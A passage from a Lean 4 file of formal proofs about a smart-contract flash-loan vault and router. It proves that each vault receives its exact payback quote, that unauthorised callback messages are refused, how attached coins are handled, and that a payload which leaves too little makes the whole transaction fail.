      s'.bal + fee s.fees.burn amount = s2.bal + payback s amount ∧
      getN s'.ab i = getN s2.ab i + (getN s2.ab 5 - payback s amount) ∧
      getN s'.ab 5 = 0 ∧
      (∀ j, j ≠ 5 → j ≠ i → getN s'.ab j = getN s2.ab j) := by
  obtain ⟨_, _, s1, s2, s3, hp, hr, hcl, hat⟩ := router_loan_parts h
  obtain ⟨hs1, _, _, _⟩ := payOut_spec (s := { s with ctr := s.ctr + 1 }) (a := 5) (n := amount)
    hI.abLen (by omega) hp
  have e_fees : s1.fees = s.fees := by rw [hs1]
  obtain ⟨hI2, r2⟩ := rruns_cb (cb_start hI (by omega) hp) hr
  have hf2 : s2.fees = s.fees := r2.fees.trans e_fees
  have hpb : payback s2 amount = payback s amount := by unfold payback; rw [hf2]
  obtain ⟨hge, heq, _, _, h5, hi', hoth⟩ := completeLoan_spec hI2.abLen (by omega) hcl
  have e_bal : s3.bal = s2.bal + payback s2 amount := by rw [heq]
  have e_f3 : s3.fees = s.fees := by rw [heq]; exact hf2
  obtain ⟨hok, hs'⟩ := afterTrade_ok_of_some hat
  have e_ab : s'.ab = s3.ab := by rw [hs']; rfl
  have e_b' : s'.bal = s3.bal - fee s3.fees.burn amount := by rw [hs']; rfl
  simp only [afterTradeOk, Bool.and_eq_true, decide_eq_true_eq] at hok
  obtain ⟨⟨⟨⟨_, hneed⟩, _⟩, _⟩, _⟩ := hok
  rw [hpb] at hge e_bal hi'
  rw [e_f3] at hneed e_b'
  refine ⟨s2, s3, hcl, hat, hpb, hge, e_bal, ?_, ?_, ?_, ?_⟩
  · omega
  · rw [e_ab]; exact hi'
  · rw [e_ab]; exact h5
  · intro j h1 h2; rw [e_ab]; exact hoth j h1 h2

/-- preconditions under which nothing but the funds reaching the router decides the outcome of a
    router loan whose payload only funds the router with `x` from the borrower contract -/
structure RouterPaybackPre (s : St) (amount x : Nat) : Prop where
  flOn : s.flOn = true
  pos : 0 < amount
  funded : amount ≤ s.bal
  xpos : 0 < x
  canFund : x ≤ getN s.ab 3
  noOverflow : s.bal + getN s.ab 5 + x ≤ U128MAX ∧ s.pend + amount ≤ U128MAX
    ∧ s.allTime + amount ≤ U128MAX ∧ s.burned + amount ≤ U128MAX

/-- Router path, exact payback: a payload that only funds the router with `x` succeeds **iff**
    what the router then holds — its balance before the loan, the loan, and `x` — covers
    `GetPaybackAmount(amount)`; so exactly the quote suffices and one unit less never does. -/
theorem router_payback_exact {s : St} {i amount x : Nat} (hI : Inv s) (hv : s.fees.valid = true)
    (hi : i < 4) (hp : RouterPaybackPre s amount x) :
    (routerLoanFrom s i amount [.fund x]).isSome = true ↔
      payback s amount ≤ getN s.ab 5 + amount + x := by
  have hctr := hI.ctr0
  have hlen := hI.abLen
  obtain ⟨n1, n2, n3, n4⟩ := hp.noOverflow
  simp only [VFees.valid, Bool.and_eq_true, decide_eq_true_eq] at hv
  obtain ⟨⟨⟨hv1, hv2⟩, hv3⟩, hv4⟩ := hv
  have hf1 : fee s.fees.prot amount ≤ amount := mul_div_le_of_le (le_of_lt hv1)
  have hf3 : fee s.fees.burn amount ≤ amount := mul_div_le_of_le (le_of_lt hv3)
  have hfs : fee s.fees.prot amount + fee s.fees.flash amount + fee s.fees.burn amount ≤ amount := by
    have := three_fees_le amount s.fees.prot s.fees.flash s.fees.burn E18 (by omega)
    simpa [fee] using this
  have hfunded := hp.funded
  have hxpos := hp.xpos
  have hcan := hp.canFund
  have hpos := hp.pos
  have h5 : 5 < s.ab.length := by rw [hlen]; omega
  -- the loan reaches the router …
  have hlenA : (setN s.ab 5 (getN s.ab 5 + amount)).length = 6 := by rw [setN_length]; exact hlen
  have hA5 : getN (setN s.ab 5 (getN s.ab 5 + amount)) 5 = getN s.ab 5 + amount := getN_setN_same _ _ _ h5
  have hA3 : getN (setN s.ab 5 (getN s.ab 5 + amount)) 3 = getN s.ab 3 := getN_setN_ne _ _ _ _ (by omega)
  have hpo : payOut { s with ctr := s.ctr + 1 } 5 amount
      = some { s with ctr := s.ctr + 1, ab := setN s.ab 5 (getN s.ab 5 + amount), bal := s.bal - amount } := by
    unfold payOut
    rw [if_neg (by simp only; omega)]
  -- … and the borrower contract adds x
  obtain ⟨s2, hfund⟩ : ∃ s2, rrun { s with ctr := s.ctr + 1, ab := setN s.ab 5 (getN s.ab 5 + amount), bal := s.bal - amount } (.fund x) = some s2 := by
    rw [rrun_fund]; unfold move
    rw [if_neg (by simp only [hA3]; omega)]
    exact ⟨_, rfl⟩
  have hfund' := hfund
  rw [rrun_fund] at hfund'
  obtain ⟨hlen2, _, heq2, _, hab2⟩ := move_spec (s := { s with ctr := s.ctr + 1, ab := setN s.ab 5 (getN s.ab 5 + amount), bal := s.bal - amount }) hlenA (by omega) (by omega) hfund'
  simp only [] at hab2
  have hg5 : getN s2.ab 5 = getN s.ab 5 + amount + x := by
    rw [hab2, getN_setN_same _ _ _ (by rw [setN_length, hlenA]; omega),
      getN_setN_ne _ _ _ _ (by omega), hA5]
  have e_fees2 : s2.fees = s.fees := by rw [heq2]
  have e_bal2 : s2.bal = s.bal - amount := by rw [heq2]
  have e_pend2 : s2.pend = s.pend := by rw [heq2]
  have e_all2 : s2.allTime = s.allTime := by rw [heq2]
  have e_bur2 : s2.burned = s.burned := by rw [heq2]
  have hpb : payback s2 amount = payback s amount := by unfold payback; rw [e_fees2]
  have hr : rruns { s with ctr := s.ctr + 1, ab := setN s.ab 5 (getN s.ab 5 + amount), bal := s.bal - amount } [.fund x] = some s2 := by
    rw [rruns_cons_some [] hfund, rruns_nil]
  constructor
  · intro h
    cases hc : routerLoanFrom s i amount [.fund x] with
    | none => rw [hc] at h; cases h
    | some s' =>
      obtain ⟨_, _, t1, t2, t3, tp, tr, tcl, _⟩ := router_loan_parts hc
      rw [hpo] at tp; injection tp with tp; subst tp
      rw [hr] at tr; injection tr with tr; subst tr
      obtain ⟨hge, _⟩ := completeLoan_spec hlen2 (by omega) tcl
      rw [hpb, hg5] at hge
      exact hge
  · intro hx
    have hpbpos : 0 < payback s amount := by unfold payback; omega
    obtain ⟨s3, hcl⟩ := completeLoan_some (s := s2) (i := i) (n := amount) hlen2
      (by rw [hpb]; omega) (by rw [hpb, hg5]; exact hx) (by rw [hpb]; exact hpbpos)
    rw [router_loan_of_parts hp.flOn hctr hpo hr hcl]
    obtain ⟨_, heq3, _⟩ := completeLoan_spec hlen2 (by omega) hcl
    have e_bal3 : s3.bal = s2.bal + payback s2 amount := by rw [heq3]
    have e_fees3 : s3.fees = s.fees := by rw [heq3]; exact e_fees2
    have e_pend3 : s3.pend = s.pend := by rw [heq3]; exact e_pend2
    have e_all3 : s3.allTime = s.allTime := by rw [heq3]; exact e_all2
    have e_bur3 : s3.burned = s.burned := by rw [heq3]; exact e_bur2
    rw [hpb, e_bal2] at e_bal3
    unfold payback at e_bal3 hx
    unfold afterTrade
    rw [if_pos]
    · rfl
    · simp only [afterTradeOk, Bool.and_eq_true, decide_eq_true_eq, e_fees3, e_bal3, e_pend3, e_all3, e_bur3]
      refine ⟨⟨⟨⟨?_, ?_⟩, ?_⟩, ?_⟩, ?_⟩ <;> omega

/-- Sender guard: `NextLoan` only by a factory-registered vault — called directly by any account
    (users, the borrower contract) it is refused and nothing changes. -/
theorem next_loan_guarded (s : St) (who amount : Nat) (payload : List RAct) :
    step s (.nextLoanBy who amount payload) = none ∧ Vault.apply s (.nextLoanBy who amount payload) = s :=
  ⟨rfl, rfl⟩

/-- Sender guard: `CompleteLoan` only by the router itself — called directly by any account it is
    refused and nothing changes. -/
theorem complete_loan_guarded (s : St) (who i amount : Nat) :
    step s (.completeLoanBy who i amount) = none ∧ Vault.apply s (.completeLoanBy who i amount) = s :=
  ⟨rfl, rfl⟩

/-- More than one asset is refused (`NestedFlashLoansDisabled`); zero assets do nothing at all (the
    payload is not run). -/
theorem router_multi_refused_none_noop (s : St) (who a1 a2 : Nat) (payload : List RAct) :
    step s (.routerLoanMulti who a1 a2 payload) = none ∧ step s (.routerLoanNone who payload) = some s :=
  ⟨rfl, rfl⟩

/-! ### coins ATTACHED to the flash-loan messages (`Op.attach`)

`failed_changes_nothing` / `all_or_nothing` above quantify over all operations, the ones carrying stray
coins included: a failed message returns the attached coins with everything else. -/

/-- Coins of the asset's denom attached to the vault's own `FlashLoan` are in the vault BEFORE
    `old_balance` is read: a donation. The loan then runs from the state after a plain transfer of `n`
    to the vault and has to leave the vault with at least `balance + n + protocol fee + flash-loan fee`:
    the attached coins cannot be used to pay the fees, and they stay in the vault. -/
theorem loan_attached_is_donation {s s' : St} {who n amount : Nat} {cb : List Act} (hI : Inv s)
    (h : step s (.attach who 0 n (.loan amount cb)) = some s') :
    ∃ s1, payIn s who n = some s1 ∧ loanFrom s1 amount cb = some s' ∧ s1.bal = s.bal + n ∧
      s.bal + n + fee s.fees.prot amount + fee s.fees.flash amount ≤ s'.bal := by
  obtain ⟨dst, s1, hr, _, ha, hs⟩ := attach_parts h
  have hd : dst = 0 := by simp only [Op.recv, Option.some.injEq] at hr; omega
  subst hd
  obtain ⟨hp, hw, _, _⟩ := arrive_own_vault ha
  have A := arrive_spec hI ha
  simp only [step] at hs
  have L := loan_spec A.inv hs
  obtain ⟨hs1, _⟩ := payIn_spec hI.abLen (by omega) hp
  have hb : s1.bal = s.bal + n := by rw [hs1]
  have hf := A.fees
  have := L.balGe
  rw [hf, hb] at this
  exact ⟨s1, hp, hs, hb, this⟩

/-- Coins attached to the ROUTER's `FlashLoan` (`flash_loan.rs` passes `funds: vec![]` on to the vault)
    are the router's for the duration of the transaction: the loan runs from the state `s1` after a
    plain transfer of the coins to the router (asset denom) resp. after the router's balance of the
    unrelated denom grew — the vault's balance and every ledger are those of `s` when it records
    `old_balance`, so all `router_…` theorems above apply from `s1` with the fees and balance of `s`. -/
theorem router_attached_is_routers {s s' : St} {who sel n i amount : Nat} {payload : List RAct}
    (hI : Inv s) (h : step s (.attach who sel n (.routerLoan i amount payload)) = some s') :
    ∃ s1, arrive s who sel n 1 = some s1 ∧ routerLoanFrom s1 i amount payload = some s' ∧ i < 4 ∧
      Inv s1 ∧ s1.bal = s.bal ∧ s1.fees = s.fees ∧ s1.pend = s.pend ∧ getN s'.ab 5 = 0 := by
  obtain ⟨dst, s1, hr, _, ha, hs⟩ := attach_parts h
  have hd : dst = 1 := by simp only [Op.recv, Option.some.injEq] at hr; omega
  subst hd
  have A := arrive_spec hI ha
  simp only [step] at hs
  split at hs
  · cases hs
  rename_i hi
  have hb : s1.bal = s.bal := by
    by_cases hsel : sel = 0
    · subst hsel
      obtain ⟨hm, _⟩ := arrive_own_router ha
      exact (move_inv hI (by omega) (by omega) hm).2.2.2.2
    · obtain ⟨rfl, _⟩ := arrive_junk hsel ha
      rfl
  exact ⟨s1, ha, hs, by omega, A.inv, hb, A.fees, A.pend, router_keeps_nothing A.inv (by omega) hs⟩

/-- the state in which a router loan with coins of the asset's denom attached starts -/
private theorem attached_router_start {s s' : St} {i n amount : Nat} {payload : List RAct} (hI : Inv s)
    (h : step s (.attach i 0 n (.routerLoan i amount payload)) = some s') :
    ∃ s1, move s i 5 n = some s1 ∧ routerLoanFrom s1 i amount payload = some s' ∧ i < 4 ∧ Inv s1 ∧
      s1.bal = s.bal ∧ s1.fees = s.fees ∧ getN s1.ab 5 = getN s.ab 5 + n ∧
      getN s1.ab i + n = getN s.ab i ∧ (∀ j, j ≠ 5 → j ≠ i → getN s1.ab j = getN s.ab j) := by
  obtain ⟨s1, ha, hs, hi, hI1, hb, hf, _, _⟩ := router_attached_is_routers hI h
  obtain ⟨hm, _, _, _⟩ := arrive_own_router ha
  obtain ⟨_, _, _, hle, hab⟩ := move_spec hI.abLen (by omega) (by omega) hm
  have hlen : (setN s.ab i (getN s.ab i - n)).length = 6 := by rw [setN_length]; exact hI.abLen
  refine ⟨s1, hm, hs, hi, hI1, hb, hf, ?_, ?_, ?_⟩
  · rw [hab, getN_setN_same _ _ _ (by rw [hlen]; omega), getN_setN_ne _ _ _ _ (by omega)]
  · rw [hab, getN_setN_ne _ _ _ _ (by omega), getN_setN_same _ _ _ (by rw [hI.abLen]; omega)]
    omega
  · intro j h5 hji
    rw [hab, getN_setN_ne _ _ _ _ (by omega), getN_setN_ne _ _ _ _ (by omega)]

/-- **Coins of the loaned asset's denom attached to the router's `FlashLoan` are never left in the
    router nor in the vault**: with `s2` the state when the payload has finished, the router held the
    quote, the vault's balance is what the payload left it plus exactly the quote minus the burn fee,
    the initiator receives the router's WHOLE remaining balance (the attached coins are part of it),
    and the router ends with nothing. -/
theorem router_attached_coins_return {s s' : St} {i n amount : Nat} {payload : List RAct} (hI : Inv s)
    (h : step s (.attach i 0 n (.routerLoan i amount payload)) = some s') :
    ∃ s1 s2 : St, move s i 5 n = some s1 ∧ routerLoanFrom s1 i amount payload = some s' ∧
      s1.bal = s.bal ∧ getN s1.ab 5 = getN s.ab 5 + n ∧ getN s1.ab i + n = getN s.ab i ∧
      payback s amount ≤ getN s2.ab 5 ∧
      s'.bal + fee s.fees.burn amount = s2.bal + payback s amount ∧
      getN s'.ab i = getN s2.ab i + (getN s2.ab 5 - payback s amount) ∧
      getN s'.ab 5 = 0 := by
  obtain ⟨s1, hm, hs, hi, hI1, hb, hf, h5, h_i, _⟩ := attached_router_start hI h
  obtain ⟨s2, s3, _, _, _, hge, _, hbal, hini, h0, _⟩ := router_pays_quote_forwards_rest hI1 hi hs
  have hpb : payback s1 amount = payback s amount := by unfold payback; rw [hf]
  rw [hpb] at hge hbal hini
  rw [hf] at hbal
  exact ⟨s1, s2, hm, hs, hb, h5, h_i, hge, hbal, hini, h0⟩

/-- … made explicit for a payload that only lets the borrower contract fund the router with `x`: the
    transaction succeeds only if `router balance + n + loan + x` covers the quote, the VAULT GAINS
    EXACTLY ITS RETAINED FEES (protocol + flash-loan fee; nothing of the `n` attached coins), the
    initiator's balance changes by exactly `router balance + loan + x − quote` — the `n` coins it
    attached are back —, the router ends with nothing, the borrower contract paid `x`. -/
theorem router_attached_returned_exact {s s' : St} {i n amount x : Nat} (hI : Inv s) (hi3 : i ≠ 3)
    (h : step s (.attach i 0 n (.routerLoan i amount [.fund x])) = some s') :
    payback s amount ≤ getN s.ab 5 + n + amount + x ∧
    s'.bal + amount + fee s.fees.burn amount = s.bal + payback s amount ∧
    getN s'.ab i + payback s amount = getN s.ab i + (getN s.ab 5 + amount + x) ∧
    getN s'.ab 5 = 0 ∧ getN s'.ab 3 + x = getN s.ab 3 := by
  obtain ⟨s1, hm, hs, hi, hI1, hb, hf, h5, h_i, hoth1⟩ := attached_router_start hI h
  have h3 : getN s1.ab 3 = getN s.ab 3 := hoth1 3 (by omega) (by omega)
  obtain ⟨_, _, t1, t2, t3, tp, tr, tcl, tat⟩ := router_loan_parts hs
  -- the loan reaches the router
  obtain ⟨ht1, hamt, _, hlen1⟩ := payOut_spec (s := { s1 with ctr := s1.ctr + 1 }) (a := 5) (n := amount)
    hI1.abLen (by omega) tp
  have e1ab : t1.ab = setN s1.ab 5 (getN s1.ab 5 + amount) := by rw [ht1]
  have e1bal : t1.bal = s1.bal - amount := by rw [ht1]
  have e1fees : t1.fees = s1.fees := by rw [ht1]
  have hamt' : amount ≤ s1.bal := hamt
  -- the borrower contract funds the router
  have hq : rrun t1 (.fund x) = some t2 := by
    cases hq : rrun t1 (.fund x) with
    | none => rw [rruns_cons_none [] hq] at tr; cases tr
    | some q => rw [rruns_cons_some [] hq, rruns_nil] at tr; rw [tr]
  rw [rrun_fund] at hq
  obtain ⟨hlen2, _, heq2, hx, hab2⟩ := move_spec hlen1 (by omega) (by omega) hq
  have e2bal : t2.bal = t1.bal := by rw [heq2]
  have e2fees : t2.fees = t1.fees := by rw [heq2]
  have hlenA : (setN t1.ab 3 (getN t1.ab 3 - x)).length = 6 := by rw [setN_length]; exact hlen1
  have g15 : getN t1.ab 5 = getN s1.ab 5 + amount := by
    rw [e1ab]; exact getN_setN_same _ _ _ (by rw [hI1.abLen]; omega)
  have g13 : getN t1.ab 3 = getN s1.ab 3 := by rw [e1ab]; exact getN_setN_ne _ _ _ _ (by omega)
  have g1i : getN t1.ab i = getN s1.ab i := by rw [e1ab]; exact getN_setN_ne _ _ _ _ (by omega)
  have g25 : getN t2.ab 5 = getN s1.ab 5 + amount + x := by
    rw [hab2, getN_setN_same _ _ _ (by rw [hlenA]; omega), getN_setN_ne _ _ _ _ (by omega), g15]
  have g23 : getN t2.ab 3 = getN s1.ab 3 - x := by
    rw [hab2, getN_setN_ne _ _ _ _ (by omega), getN_setN_same _ _ _ (by rw [hlen1]; omega), g13]
  have g2i : getN t2.ab i = getN s1.ab i := by
    rw [hab2, getN_setN_ne _ _ _ _ (by omega), getN_setN_ne _ _ _ _ (by omega), g1i]
  have hf2 : t2.fees = s.fees := by rw [e2fees, e1fees, hf]
  have hpb : payback t2 amount = payback s amount := by unfold payback; rw [hf2]
  -- CompleteLoan and after_trade
  obtain ⟨hge, heq3, _, _, h50, hini, hoth⟩ := completeLoan_spec hlen2 (by omega) tcl
  rw [hpb] at hge hini
  have e3bal : t3.bal = t2.bal + payback s amount := by rw [heq3, hpb]
  have e3fees : t3.fees = s.fees := by rw [heq3]; exact hf2
  obtain ⟨hok, hs'⟩ := afterTrade_ok_of_some tat
  have e_ab : s'.ab = t3.ab := by rw [hs']; rfl
  have e_b' : s'.bal = t3.bal - fee t3.fees.burn amount := by rw [hs']; rfl
  simp only [afterTradeOk, Bool.and_eq_true, decide_eq_true_eq] at hok
  obtain ⟨⟨⟨⟨_, hneed⟩, _⟩, _⟩, _⟩ := hok
  rw [e3fees] at hneed e_b'
  have h33 : getN t3.ab 3 = getN t2.ab 3 := hoth 3 (by omega) (by omega)
  have hx' : x ≤ getN s1.ab 3 := by rw [← g13]; exact hx
  have hpbdef : payback s amount = amount + fee s.fees.prot amount + fee s.fees.flash amount + fee s.fees.burn amount := rfl
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · rw [g25, h5] at hge; omega
  · rw [e_b', e3bal, e2bal, e1bal, hb] at *; omega
  · rw [e_ab, hini, g2i, g25, h5]; rw [g25, h5] at hge; omega
  · rw [e_ab]; exact h50
  · rw [e_ab, h33, g23, h3]; rw [h3] at hx'; omega

/-- Coins of an UNRELATED denom attached to the router's `FlashLoan` do not take part in the loan at
    all (it runs as without them) and are NOT returned: `CompleteLoan` forwards the loaned asset only,
    so they stay on the router's balance (entry 5 of the unrelated denom grows by `n`, the sender's
    falls by `n`) — like any other coins parked on the router. -/
theorem router_foreign_coins_stay_in_router {s s' : St} {who sel n i amount : Nat} {payload : List RAct}
    (hI : Inv s) (hj : s.jb.length = 8) (hsel : sel ≠ 0)
    (h : step s (.attach who sel n (.routerLoan i amount payload)) = some s') :
    (∃ s1, s1 = { s with jb := s1.jb } ∧ routerLoanFrom s1 i amount payload = some s') ∧
    getN s'.jb 5 = getN s.jb 5 + n ∧ getN s'.jb who + n = getN s.jb who ∧ getN s'.jb 7 = getN s.jb 7 := by
  obtain ⟨s1, ha, hs, hi, hI1, _, _, _, _⟩ := router_attached_is_routers hI h
  obtain ⟨hs1, hn, hw, _⟩ := arrive_junk hsel ha
  have hjb : s'.jb = s1.jb := (router_loan_spec hI1 (by omega) hs).jb
  have e1 : s1.jb = lmove s.jb who 5 n := by rw [hs1]; rfl
  refine ⟨⟨s1, by rw [hs1], hs⟩, ?_, ?_, ?_⟩
  · rw [hjb, e1, lmove_dst _ _ _ _ (by rw [hj]; omega) (by omega)]
  · rw [hjb, e1, lmove_src _ _ _ _ (by rw [hj]; omega) (by omega)]; omega
  · rw [hjb, e1, lmove_other _ _ _ _ _ (by omega) (by omega)]

/-! ### the vault router over several vaults: the chain of `NextLoan`s

  `VaultChain.chainGo c run I L s L` is the router borrowing from every vault of `L` (pairs
  (vault, amount), in `to_loan` order), running the payload `run`, `CompleteLoan{I, L}` and every vault's
  `after_trade`. `s1` = the state in which the payload starts (`VaultChain.lends`, a function of `s` and
  `L`), `s2` = the state it leaves. Account 5 is the router, `6 + j` vault `j`, `I < 5` an ordinary
  account. On the real code the router's own `FlashLoan` starts it for one vault (`chain_rloan_single`),
  a hand-built `NextLoan` message in a payload for several (`chain_in_payload`). -/

/-- (a) All or nothing, chained router transactions: a failed one leaves every balance and ledger of
    every vault untouched … -/
theorem chain_failed_changes_nothing (c : VaultChain.Cfg) (s : VaultChain.St) (op : VaultChain.Op)
    (h : VaultChain.step c s op = none) : VaultChain.apply c s op = s := by
  simp [VaultChain.apply, h]

/-- … and a successful one is exactly the model's successor state (no third outcome). -/
theorem chain_all_or_nothing (c : VaultChain.Cfg) (s : VaultChain.St) (op : VaultChain.Op) :
    VaultChain.apply c s op = s ∨ ∃ s', VaultChain.step c s op = some s' ∧ VaultChain.apply c s op = s' := by
  cases h : VaultChain.step c s op with
  | none => left; simp [VaultChain.apply, h]
  | some s' => right; exact ⟨s', rfl, by simp [VaultChain.apply, h]⟩

/-- A chain that succeeds borrowed from pairwise different, factory-registered vaults (an asset listed
    twice, or one without a vault, makes everything fail). -/
theorem chain_vaults_distinct_known {c : VaultChain.Cfg} {run : VaultChain.St → Option VaultChain.St}
    {I : Nat} {L : List (Nat × Nat)} {s s' : VaultChain.St} (hI : I < 5)
    (h : VaultChain.chainGo c run I L s L = some s') :
    (L.map (·.1)).Nodup ∧ ∀ e ∈ L, e.1 < c.nv := by
  obtain ⟨_, _, _, _, S⟩ := VaultChain.chain_spec hI h
  exact ⟨S.nodup, S.known⟩

/-- When the payload starts the router holds, of every borrowed asset, what it held before plus the
    loan; each vault is short of exactly its loan; nothing else has moved. -/
theorem chain_payload_starts_with_loans {c : VaultChain.Cfg} {run : VaultChain.St → Option VaultChain.St}
    {I : Nat} {L : List (Nat × Nat)} {s s' : VaultChain.St} (hI : I < 5)
    (h : VaultChain.chainGo c run I L s L = some s') :
    ∃ s1 s2, VaultChain.lends c s L = some s1 ∧ run s1 = some s2 ∧
      (∀ e ∈ L, s1.bal e.1 5 = s.bal e.1 5 + e.2 ∧ s1.bal e.1 (6 + e.1) + e.2 = s.bal e.1 (6 + e.1) ∧
        ∀ y, y ≠ 5 → y ≠ 6 + e.1 → s1.bal e.1 y = s.bal e.1 y) ∧
      (∀ x, x ∉ L.map (·.1) → ∀ y, s1.bal x y = s.bal x y) := by
  obtain ⟨s1, s2, h1, h2, S⟩ := VaultChain.chain_spec hI h
  exact ⟨s1, s2, h1, h2, fun e he => ⟨S.lentRouter e he, S.lentVault e he, S.lentOtherAcct e he⟩, S.lentOtherAsset⟩

/-- (b) **Every vault of the chain receives exactly its quoted payback** — the loan plus its three
    fees, each `⌊share · loan⌋` under that vault's own fee triple: the router held at least that much
    of the asset when the payload finished, the vault's balance ends at its balance at that moment
    plus the quote minus the burn fee (which `after_trade` destroys), and its fee ledgers record exactly
    the protocol and the burn fee. For EVERY number of vaults, every payload, all amounts. -/
theorem chain_pays_each_quote {c : VaultChain.Cfg} {run : VaultChain.St → Option VaultChain.St}
    {I : Nat} {L : List (Nat × Nat)} {s s' : VaultChain.St} (hI : I < 5)
    (h : VaultChain.chainGo c run I L s L = some s') :
    ∃ s1 s2, VaultChain.lends c s L = some s1 ∧ run s1 = some s2 ∧
      ∀ e ∈ L,
        VaultChain.payback c e.1 e.2 = e.2 + e.2 * (c.fees e.1).prot / E18 + e.2 * (c.fees e.1).flash / E18
          + e.2 * (c.fees e.1).burn / E18 ∧
        VaultChain.payback c e.1 e.2 ≤ s2.bal e.1 5 ∧
        s'.bal e.1 (6 + e.1) + e.2 * (c.fees e.1).burn / E18 = s2.bal e.1 (6 + e.1) + VaultChain.payback c e.1 e.2 ∧
        s'.allTime e.1 = s2.allTime e.1 + e.2 * (c.fees e.1).prot / E18 ∧
        s'.pend e.1 = s2.pend e.1 + e.2 * (c.fees e.1).prot / E18 ∧
        s'.burned e.1 = s2.burned e.1 + e.2 * (c.fees e.1).burn / E18 := by
  obtain ⟨s1, s2, h1, h2, S⟩ := VaultChain.chain_spec hI h
  exact ⟨s1, s2, h1, h2, fun e he => ⟨rfl, S.covered e he, S.vault e he, S.allTime e he, S.pend e he, S.burned e he⟩⟩

/-- Whatever the payload did (payments to the vaults, transfers, further loans elsewhere), every vault of
    the chain ends with at least its balance before the transaction plus its protocol and flash-loan fee. -/
theorem chain_vault_balance_ge {c : VaultChain.Cfg} {run : VaultChain.St → Option VaultChain.St}
    {I : Nat} {L : List (Nat × Nat)} {s s' : VaultChain.St} (hI : I < 5)
    (h : VaultChain.chainGo c run I L s L = some s') :
    ∀ e ∈ L, s.bal e.1 (6 + e.1) + e.2 * (c.fees e.1).prot / E18 + e.2 * (c.fees e.1).flash / E18
      ≤ s'.bal e.1 (6 + e.1) := by
  obtain ⟨_, _, _, _, S⟩ := VaultChain.chain_spec hI h
  exact S.balGe

/-- (c) **The router keeps nothing**: of every borrowed asset its balance is zero afterwards — stray
    funds it held before and whatever the payload brought in included — and its balance of every other
    asset is exactly what the payload left there (CompleteLoan and the after_trades do not touch it).
    In particular a router that holds nothing before a transaction whose payload leaves it nothing of
    the other assets holds nothing afterwards: its balances are unchanged. -/
theorem chain_router_keeps_nothing {c : VaultChain.Cfg} {run : VaultChain.St → Option VaultChain.St}
    {I : Nat} {L : List (Nat × Nat)} {s s' : VaultChain.St} (hI : I < 5)
    (h : VaultChain.chainGo c run I L s L = some s') :
    ∃ s1 s2, VaultChain.lends c s L = some s1 ∧ run s1 = some s2 ∧
      (∀ e ∈ L, s'.bal e.1 5 = 0) ∧ (∀ x, x ∉ L.map (·.1) → s'.bal x 5 = s2.bal x 5) := by
  obtain ⟨s1, s2, h1, h2, S⟩ := VaultChain.chain_spec hI h
  exact ⟨s1, s2, h1, h2, S.router, fun x hx => S.otherAsset x hx 5⟩

/-- (d) **Everything the payload left over goes to the initiator, nobody else**: of every borrowed asset
    the initiator `I` — the account named when the chain was started, forwarded unchanged through every
    `NextLoan` — receives exactly `router balance − quote`; no other account (users, the funding contract,
    the fee collector, the OTHER vaults) changes its balance of a borrowed asset between the end of the
    payload and the end of the transaction, and no balance of any other asset moves at all. -/
theorem chain_rest_to_initiator {c : VaultChain.Cfg} {run : VaultChain.St → Option VaultChain.St}
    {I : Nat} {L : List (Nat × Nat)} {s s' : VaultChain.St} (hI : I < 5)
    (h : VaultChain.chainGo c run I L s L = some s') :
    ∃ s1 s2, VaultChain.lends c s L = some s1 ∧ run s1 = some s2 ∧
      (∀ e ∈ L, s'.bal e.1 I = s2.bal e.1 I + (s2.bal e.1 5 - VaultChain.payback c e.1 e.2)) ∧
      (∀ e ∈ L, ∀ y, y ≠ 5 → y ≠ I → y ≠ 6 + e.1 → s'.bal e.1 y = s2.bal e.1 y) ∧
      (∀ x, x ∉ L.map (·.1) → ∀ y, s'.bal x y = s2.bal x y) := by
  obtain ⟨s1, s2, h1, h2, S⟩ := VaultChain.chain_spec hI h
  exact ⟨s1, s2, h1, h2, S.initiator, S.otherAcct, S.otherAsset⟩

/-- (e) **If the payload leaves less than some vault's payback the whole transaction fails**: a payload
    that — in whatever state it is started — ends with the router holding less of some borrowed asset
    than that vault's quote makes the chain fail (so nothing changes), for any number of vaults. -/
theorem chain_short_reverts {c : VaultChain.Cfg} {run : VaultChain.St → Option VaultChain.St}
    {I : Nat} {L : List (Nat × Nat)} (s : VaultChain.St)
    (hshort : ∀ s1 s2, run s1 = some s2 → ∃ e ∈ L, s2.bal e.1 5 < VaultChain.payback c e.1 e.2) :
    VaultChain.chainGo c run I L s L = none :=
  VaultChain.chainGo_short hshort L s

/-- The router's own `FlashLoan{[asset], msgs}` by account `who` is the chain over that one vault with
    `who` as initiator, … -/
theorem chain_rloan_single (c : VaultChain.Cfg) (s : VaultChain.St) (who : Nat) (e : Nat × Nat)
    (p : List VaultChain.RAct) (hw : who < 4) :
    VaultChain.step c s (.rloan who [e] p) = VaultChain.chainGo c (fun t => VaultChain.rruns c t p) who [e] s [e] := by
  simp only [VaultChain.step]
  rw [if_neg (by omega)]

/-- … more than one asset is refused (`NestedFlashLoansDisabled`), zero assets do nothing (the payload
    is not run), … -/
theorem chain_multi_refused_none_noop (c : VaultChain.Cfg) (s : VaultChain.St) (who : Nat) (e1 e2 : Nat × Nat)
    (es : List (Nat × Nat)) (p : List VaultChain.RAct) (hw : who < 4) :
    VaultChain.step c s (.rloan who (e1 :: e2 :: es) p) = none ∧ VaultChain.step c s (.rloan who [] p) = some s := by
  simp only [VaultChain.step]
  rw [if_neg (by omega), if_neg (by omega)]
  exact ⟨rfl, rfl⟩

/-- … and the chain over several vaults is what the hand-built `NextLoan` message in a payload starts
    (the router is the borrower): all `chain_…` theorems apply to it with `run` = the inner payload. -/
theorem chain_in_payload (c : VaultChain.Cfg) (s : VaultChain.St) (I : Nat) (e : Nat × Nat) (es : List (Nat × Nat))
    (p : List VaultChain.RAct) (hI : I < 6 + c.nv) :
    VaultChain.rrun c s (.chain I (e :: es) p)
      = VaultChain.chainGo c (fun t => VaultChain.rruns c t p) I (e :: es) s (e :: es) := by
  rw [VaultChain.rrun]
  rw [if_neg (by omega)]

/-- Sender guards: `NextLoan` (also in its chained shape) and `CompleteLoan` sent by an ordinary account
    are refused and nothing changes. -/
theorem chain_callbacks_guarded (c : VaultChain.Cfg) (s : VaultChain.St) (who I : Nat) (L : List (Nat × Nat))
    (p : List VaultChain.RAct) :
    VaultChain.step c s (.xnext who I L p) = none ∧ VaultChain.step c s (.xcomplete who I L) = none ∧
    VaultChain.apply c s (.xnext who I L p) = s ∧ VaultChain.apply c s (.xcomplete who I L) = s :=
  ⟨rfl, rfl, rfl, rfl⟩

/-! #### coins attached to the router's / a vault's messages, several vaults

